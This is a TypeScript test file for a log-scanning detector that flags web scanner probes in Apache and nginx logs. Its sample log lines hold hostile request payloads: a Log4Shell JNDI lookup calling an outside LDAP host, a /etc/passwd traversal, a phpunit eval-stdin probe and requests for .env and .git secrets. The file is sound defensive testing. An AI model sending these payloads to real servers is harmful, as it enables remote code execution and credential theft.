import assert from 'node:assert/strict';
import { test } from 'node:test';
import { webProbe } from './web-rules.ts';

const access = (request: string, status: number, peer = '198.18.0.7', user = '-'): string =>
  `${peer} - ${user} [24/Nov/2026:21:00:00 +0000] "${request}" ${status} 162 "-" "-"`;

test('webProbe() finds scanners in the logs of Apache and nginx', () => {
  for (const [line, rule, peer = '198.18.0.7'] of [
    [access('GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1', 400), 'w00tw00t'],
    [access('GET /.env HTTP/1.1', 404), 'secrets'],
    [access('GET /.git/config HTTP/1.1', 404, '2001:db8::7'), 'secrets', '2001:db8::7'],
    [access('GET /phpMyAdmin/index.php HTTP/1.1', 404), 'phpmyadmin'],
    [access('POST /wp-login.php HTTP/1.1', 404), 'wordpress'],
    [access('GET /?x=${jndi:ldap://198.18.0.9/a} HTTP/1.1', 200), 'jndi'],
    [access('GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1', 400), 'traversal'],
    [access('POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 200), 'phpunit'],
    [access('\\x16\\x03\\x01\\x00', 400), 'not-http'],
    [
      '[Tue Nov 24 21:00:00.123456 2026] [core:error] [pid 7:tid 8] [client 198.18.0.7:4711] AH00126: Invalid URI in request GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1',
      'w00tw00t',
    ],
    [
      '[Tue Nov 24 21:00:00 2026] [error] [client 198.18.0.7] client sent HTTP/1.1 request without hostname (see RFC2616 section 14.23): /w00tw00t.at.ISC.SANS.DFind:)',
      'w00tw00t',
    ],
    [
      '2026/11/24 21:00:00 [error] 1#1: *5 open() "/var/www/.env" failed (2: No such file or directory), client: 198.18.0.7, server: _, request: "GET /.env HTTP/1.1", host: "x"',
      'secrets',
    ],
  ] as const) {
    assert.deepEqual(webProbe(line), { peer, rule }, line);
  }
});

test('webProbe() leaves alone what a server has, and takes no address that a client wrote', () => {
  for (const line of [
    access('GET / HTTP/1.1', 200),
    access('POST /wp-login.php HTTP/1.1', 200),
    access('GET /phpmyadmin/ HTTP/1.1', 401).replace('401', '302'),
    access('GET /about?from=.environment HTTP/1.1', 404),
    'mail.example - - [24/Nov/2026:21:00:00 +0000] "GET /.env HTTP/1.1" 404 1 "-" "-"',
    '2026/11/24 21:00:00 [error] 1#1: *5 open() "/x, client: 198.18.0.66, server: .env" failed, client: 198.18.0.7, server: _, request: "GET /w00tw00t HTTP/1.1"',
    '',
  ])
    assert.equal(webProbe(line), undefined, line);
  for (const line of [
    access('GET /w00tw00t [client 198.18.0.66] HTTP/1.1', 404),
    access('GET /.env HTTP/1.1', 404, '198.18.0.7', '198.18.0.66'),
    '[Tue Nov 24 21:00:00 2026] [error] [client 198.18.0.7:1] GET /w00tw00t [client 198.18.0.66] x',
  ])
    assert.equal(webProbe(line)?.peer, '198.18.0.7', line);
});
